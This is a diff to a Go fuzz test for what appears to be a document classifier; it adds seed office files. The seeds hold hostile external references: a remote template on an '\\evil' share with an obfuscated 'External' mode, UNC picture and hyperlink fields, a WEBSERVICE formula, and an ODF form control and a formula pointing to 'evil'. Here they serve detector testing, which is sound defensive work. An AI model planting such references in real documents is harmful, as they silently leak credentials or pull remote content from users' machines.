@@ -35,6 +35,9 @@ func FuzzClassify(f *testing.F) {
 	f.Add(docx(f, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil\\t.dotm" TargetMode="&#69;xternal"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.jp/" TargetMode="External"/></Relationships>`)),
 		deflate("word/document.xml", wordField(` INCLUDE`, `PICTURE "\\\\evil\\s\\a.png" \d `))), "application/octet-stream", "a.docx")
 	f.Add(zipFile(f, deflate("mimetype", []byte("application/vnd.oasis.opendocument.text")), deflate("content.xml", []byte(`<office:document-content/>`))), "", "a.odt")
+	// The part reader shared by fields and formulas: UTF-16, a DTD.
+	f.Add(xlsx(f, "", "", deflate("xl/worksheets/sheet2.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><worksheet><sheetData><row><c><f>WEBSERVICE("http://x/")</f></c></row></sheetData></worksheet>`))), "", "a.xlsx")
+	f.Add(docx(f, deflate("word/document.xml", []byte(`<!DOCTYPE d><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:fldSimple w:instr=" HYPERLINK \o &quot;t&quot; &quot;\\\\e\\s&quot; "/></w:p></w:body></w:document>`))), "", "a.docx")
 	// A form control's property naming a share.
 	f.Add(odfFile(f, mimeODT, odfBody("text", `<office:forms><form:form><form:button><form:properties><form:property form:property-name="ImageURL" office:value-type="string" office:string-value="file://evil/s/a.png"/></form:properties></form:button></form:form></office:forms>`)), "", "a.odt")
 	f.Add(odfFile(f, mimeODS, odfBody("spreadsheet", `<table:table><table:table-row><table:table-cell table:formula="of:=[$'\\evil\s\b.ods'.A1]"/></table:table-row></table:table>`)), "", "a.ods")
